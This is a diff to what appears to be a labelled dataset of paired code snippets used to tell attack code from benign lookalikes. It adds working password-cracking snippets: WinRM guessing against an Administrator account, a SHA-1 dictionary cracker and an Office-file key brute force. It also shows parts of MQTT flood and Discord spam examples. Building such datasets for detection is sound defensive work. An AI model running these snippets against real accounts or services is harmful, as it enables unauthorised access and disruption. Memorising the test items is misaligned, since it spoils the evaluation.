@@ -443,6 +443,30 @@ PAIRS = [
      "def burst(host, port, workers):\n    def worker(n):\n        c = mqtt.Client(client_id=f'w{n}')\n"
      "        c.connect(host, port, 60)\n        for i in range(1000):\n            c.publish('t', 'x')\n"
      "    for n in range(workers):\n        Thread(target=worker, args=(n,)).start()\nburst(BROKER, 1883, 500)"),
+    ("password trial: a client given auth=(user, candidate) per word; the same client, one secret, host per line",
+     "password_cracking",
+     "import winrm\nfor guess in open('common.txt'):\n    try:\n"
+     "        winrm.Session('10.0.0.9', auth=('Administrator', guess.strip())).run_cmd('whoami')\n"
+     "        print(guess); break\n    except Exception:\n        pass",
+     "import os, winrm\nfor host in open('lab_hosts.txt'):\n"
+     "    out = winrm.Session(host.strip(), auth=('ops', os.environ['WINRM_PASSWORD'])).run_cmd('hostname')\n"
+     "    print(out.std_out)"),
+    ("password trial: SHA-1 of each word against a target; a breach check of one's own passwords (k-anonymity)",
+     "password_cracking",
+     "import hashlib, sys\ntarget = sys.argv[1].upper()\nfor word in open('words.txt'):\n"
+     "    if hashlib.sha1(word.strip().encode()).hexdigest().upper() == target:\n        print(word); break",
+     "import hashlib, sys, requests\npasswords = sys.argv[1:]\nfor password in passwords:\n"
+     "    digest = hashlib.sha1(password.encode()).hexdigest().upper()\n"
+     "    lines = requests.get('https://api.pwnedpasswords.com/range/' + digest[:5]).text.splitlines()\n"
+     "    for line in lines:\n        if digest[5:] in line:\n            print('leaked:', password)"),
+    ("password trial: an Office document's key tried for every string of a character set; one key from the user",
+     "password_cracking",
+     "import msoffcrypto, string\nfrom itertools import product\ndoc = msoffcrypto.OfficeFile(open('book.xlsx', 'rb'))\n"
+     "for n in range(1, 7):\n    for combo in product(string.printable, repeat=n):\n        try:\n"
+     "            doc.load_key(''.join(combo))\n            print('key', combo); break\n        except Exception:\n"
+     "            pass",
+     "import msoffcrypto, getpass\ndoc = msoffcrypto.OfficeFile(open('book.xlsx', 'rb'))\n"
+     "doc.load_key(getpass.getpass('workbook password: '))\ndoc.decrypt(open('plain.xlsx', 'wb'))"),
     ("message storm: a DM channel opened and spammed; an agent client streaming the answers to one request",
      "dos_attack",
      "import discord\nbot = discord.Client(intents=discord.Intents.default())\n@bot.event\nasync def on_ready():\n"
